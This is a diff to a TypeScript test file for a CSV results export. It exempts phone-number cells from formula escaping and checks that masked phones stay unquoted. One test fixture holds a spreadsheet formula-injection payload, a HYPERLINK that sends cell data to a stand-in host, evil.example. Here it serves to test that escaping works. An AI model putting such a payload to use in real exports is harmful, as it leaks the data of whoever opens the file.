@@ -99,11 +99,14 @@ async function everyPage<T>(fetch: (cursor: string | undefined) => Promise<Page<
   return items;
 }
 
+/** Cells of phone numbers only (E.164 or masked, a `; ` list): the CSV leaves them as they are. */
+const PHONE_NUMBERS = /^\+[0-9][0-9 •;+]*[0-9]$/u;
+
 /** A spreadsheet's reading of CSV cells: empty for none, and text that looks like a formula with a leading quote. */
 const asRead = (cells: CsvValue[]): string[] =>
   cells.map((cell) => {
     const textCell = cell === undefined || cell === null ? '' : String(cell);
-    return typeof cell === 'string' && /^[=+\-@\t\r]/.test(cell) ? `'${textCell}` : textCell;
+    return typeof cell === 'string' && /^[=+\-@\t\r]/.test(cell) && !PHONE_NUMBERS.test(cell) ? `'${textCell}` : textCell;
   });
 
 /** The chats of `filter` with their transcripts as the portal shows them to `who` (list, transcript pages, masking). */
@@ -215,10 +218,17 @@ describe('results export', () => {
     const expected = listed.map((contact) =>
       exportCells('contacts', maskRecord('contacts', contact, { unmasked: false })).map((cell) => {
         const textCell = cell === undefined || cell === null ? '' : String(cell);
-        return typeof cell === 'string' && /^[=+\-@\t\r]/.test(cell) ? `'${textCell}` : textCell;
+        return typeof cell === 'string' && /^[=+\-@\t\r]/.test(cell) && !PHONE_NUMBERS.test(cell) ? `'${textCell}` : textCell;
       }),
     );
     expect(rows).toEqual(expected);
+    const phonesColumn = exportHeader('contacts').indexOf('phones');
+    const phoneCells = rows.map((row) => row[phonesColumn] ?? '').filter((cell) => cell !== '');
+    expect(phoneCells.length).toBeGreaterThan(0);
+    expect(
+      phoneCells.every((cell) => cell.startsWith('+')),
+      'masked phone numbers without a leading quote',
+    ).toBe(true);
     expect(rows).toHaveLength(contacts.length);
     const hostile = rows.find((row) => row[0] === 'contact-hostile');
     expect(hostile?.[1]).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"click")');
